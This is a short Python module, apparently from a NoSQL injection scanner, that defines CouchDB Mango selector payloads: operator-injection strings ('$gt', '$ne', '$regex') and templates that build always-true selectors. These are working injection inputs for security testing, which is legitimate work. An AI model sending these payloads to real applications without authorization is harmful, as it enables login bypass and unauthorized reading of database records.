"""CouchDB Mango selectors (``_find`` and friends)."""

from typing import Tuple

from nosqlscanner.payloads.base import BodyTemplate, DbFamily, PayloadFamily


def _selector_regex(field, _val):
    return {"selector": {field: {"$regex": ".*"}}}


def _selector_or(field, val):
    return {"selector": {"$or": [{field: val}, {field: {"$ne": val}}]}}


def _selector_gt(field, _val):
    return {"selector": {field: {"$gt": ""}}}


class CouchDB(PayloadFamily):

    family = DbFamily.COUCHDB

    def __init__(self):
        self.payloads = (
            '{"$gt": ""}',
            '{"$ne": null}',
            '{"$regex": ".*"}',
        )
        self.templates = (_selector_regex, _selector_or, _selector_gt)

    def get_payloads(self) -> Tuple[str, ...]:
        return self.payloads

    def get_templates(self) -> Tuple[BodyTemplate, ...]:
        return self.templates
